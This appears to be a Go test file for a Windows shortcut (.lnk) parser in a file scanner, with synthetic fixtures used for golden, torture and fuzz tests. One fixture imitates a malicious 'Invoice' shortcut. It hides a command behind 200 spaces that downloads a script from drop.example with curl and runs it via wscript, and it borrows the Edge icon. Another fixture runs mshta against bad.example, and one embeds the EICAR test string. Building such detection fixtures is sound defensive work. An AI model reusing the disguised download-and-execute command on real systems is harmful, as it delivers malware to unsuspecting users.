package lnk

import (
	"encoding/binary"
	"flag"
	"strings"
	"testing"

	"foregate/scan/file/internal/sample"
)

var _ = flag.Bool("update", false, "write the golden files")

type shortcut struct {
	local, name, relative, dir, args, icon string
	narrow                                 bool
	show                                   uint32
	items                                  [][]byte
	tail                                   []byte
}

// bytes writes a shortcut, [MS-SHLLINK] section 2.
func (s shortcut) bytes() []byte {
	le := binary.LittleEndian
	h := make([]byte, 76)
	copy(h, magic)
	flags := uint32(hasLinkInfo)
	if !s.narrow {
		flags |= isUnicode
	}
	if s.items != nil {
		flags |= hasIDList
	}
	le.PutUint64(h[28:], 133800000000000000)
	le.PutUint32(h[60:], s.show)
	var b []byte
	if s.items != nil {
		var list []byte
		for _, it := range s.items {
			list = append(le.AppendUint16(list, uint16(len(it)+2)), it...)
		}
		list = append(list, 0, 0)
		b = append(le.AppendUint16(b, uint16(len(list))), list...)
	}
	vol := append([]byte{17 + 3, 0, 0, 0, 3, 0, 0, 0, 0x78, 0x56, 0x34, 0x12, 16, 0, 0, 0}, "OS\x00\x00"...)
	info := make([]byte, 28)
	le.PutUint32(info[4:], 28)
	le.PutUint32(info[8:], 1)
	le.PutUint32(info[12:], 28)
	le.PutUint32(info[16:], uint32(28+len(vol)))
	le.PutUint32(info[24:], uint32(28+len(vol)+len(s.local)))
	info = append(append(append(info, vol...), s.local...), 0)
	le.PutUint32(info, uint32(len(info)))
	b = append(b, info...)
	for i, v := range []string{s.name, s.relative, s.dir, s.args, s.icon} {
		if v == "" {
			continue
		}
		flags |= hasName << i
		if s.narrow {
			b = append(le.AppendUint16(b, uint16(len(v))), v...)
		} else {
			u := sample.UTF16(v)
			b = append(le.AppendUint16(b, uint16(len(u)/2)), u...)
		}
	}
	track := make([]byte, 0x60)
	le.PutUint32(track, 0x60)
	le.PutUint32(track[4:], 0xA0000003)
	le.PutUint32(track[8:], 0x58)
	copy(track[16:], "desktop-1")
	copy(track[58:], "\x00\x0c\x29\xaa\xbb\xcc")
	b = append(append(b, track...), 0, 0, 0, 0)
	le.PutUint32(h[20:], flags)
	return append(append(h, b...), s.tail...)
}

func files() map[string][]byte {
	return map[string][]byte{
		"attack": shortcut{
			local: `C:\Windows\System32\cmd.exe`, name: "Invoice", relative: `..\..\Windows\System32\cmd.exe`, dir: `C:\Users`, show: 7,
			args: strings.Repeat(" ", 200) + `/c curl https://drop.example/a.js -o %TEMP%\a.js && wscript %TEMP%\a.js`, icon: `%ProgramFiles%\Microsoft\Edge\Application\msedge.exe`,
			tail: []byte(sample.Marker),
		}.bytes(),
		"server-icon": shortcut{local: `C:\Windows\System32\notepad.exe`, icon: `\\files.example\share\document.ico`}.bytes(),
		"honest":      shortcut{local: `C:\Program Files\Editor\editor.exe`, show: 1, narrow: true, dir: `C:\Program Files\Editor`}.bytes(),
		"eicar":       shortcut{local: `C:\x.txt`, tail: sample.EICAR()}.bytes(),
		"items": shortcut{items: [][]byte{
			append([]byte{0x1f, 0x50}, make([]byte, 16)...),
			[]byte("\x2fC:\\\x00"),
			append(append([]byte{0x32, 0}, make([]byte, 10)...), "mshta.exe\x00\x00"...),
		}, args: "http://bad.example/x.hta"}.bytes(),
	}
}

func TestGolden(t *testing.T) {
	for name, data := range files() {
		t.Run(name, func(t *testing.T) {
			sample.Golden(t, Parser{}, name, sample.Input(name+".lnk", data))
		})
	}
}

func TestTorture(t *testing.T) {
	for name, data := range files() {
		sample.Torture(t, Parser{}, name+".lnk", data)
	}
}

func FuzzOpen(f *testing.F) {
	for _, data := range files() {
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		in := sample.Input("f.lnk", data)
		if !(Parser{}).Opens(in) {
			return
		}
		res, _ := Parser{}.Open(t.Context(), in)
		sample.Check(t, res)
	})
}
